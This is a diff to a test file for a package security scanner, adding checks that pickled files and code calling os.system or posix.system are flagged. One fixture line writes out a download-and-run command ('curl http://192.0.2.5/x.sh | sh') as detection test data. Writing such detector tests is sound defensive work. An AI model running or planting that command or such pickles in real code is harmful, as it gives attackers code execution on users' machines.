@@ -22,7 +22,7 @@ test('a base64 pickle that calls os.system, loaded on import, is critical and it
   const unpickled = findings(report).find((f) => f.rule === 'unpickled-code');
   assert.equal(unpickled?.severity, 'critical');
   assert.deepEqual(unpickled?.decoded?.chain, ['base64', 'pickle']);
-  assert.match(unpickled!.message, /calls os\.system/);
+  assert.match(unpickled!.message, /reaches os\.system/);
   const command = findings(report).find(
     (f) => f.path === 'demo_pkg/__init__.py#decoded-1' && f.rule === 'download-execute',
   );
@@ -35,7 +35,7 @@ test('a protocol 0 pickle written as a bytes literal, loaded when called, is hig
   });
   const unpickled = findings(report).find((f) => f.rule === 'unpickled-code');
   assert.equal(unpickled?.severity, 'high');
-  assert.match(unpickled!.message, /calls subprocess\.getoutput/);
+  assert.match(unpickled!.message, /reaches subprocess\.getoutput/);
 });
 
 test("a data pickle and a pickle of the package's own class are not programs", async () => {
@@ -69,4 +69,28 @@ test('os functions reached through posix or nt, the modules os is built on, are 
     'demo_pkg/__init__.py': 'import posix\nposix.system("curl http://192.0.2.5/x.sh | sh")\n',
   });
   assert.ok(findings(report).some((f) => f.rule === 'download-execute' && f.severity === 'critical'));
+});
+
+test('a shipped pickle (by name or by its first bytes) that reaches os.system is high; a data pickle is quiet', async () => {
+  const report = await analyseFiles(
+    {
+      'demo_pkg/__init__.py': 'VERSION = "1.0"\n',
+      'demo_pkg/model.pkl': Buffer.from(SYSTEM_PICKLE, 'base64'),
+      'demo_pkg/weights.bin': Buffer.from(SYSTEM_PICKLE, 'base64'),
+      'demo_pkg/table.pickle': Buffer.from('gAJdcQAoSwFLAmUu', 'base64'),
+    },
+    { name: 'demo-pkg', version: '1.0' },
+  );
+  const unpickled = findings(report).filter((f) => f.rule === 'unpickled-code');
+  assert.deepEqual(
+    unpickled.map((f) => [f.path, f.severity, f.trigger]),
+    [
+      ['demo_pkg/model.pkl', 'high', 'call'],
+      ['demo_pkg/weights.bin', 'high', 'call'],
+    ],
+  );
+  const command = findings(report).find((f) => f.path === 'demo_pkg/model.pkl#decoded-1');
+  assert.equal(command?.rule, 'download-execute');
+  assert.equal(command?.trigger, 'call', 'it runs when someone loads the pickle');
+  assert.ok(report.risk === 'high' || report.risk === 'critical', report.reasons.join(' | '));
 });
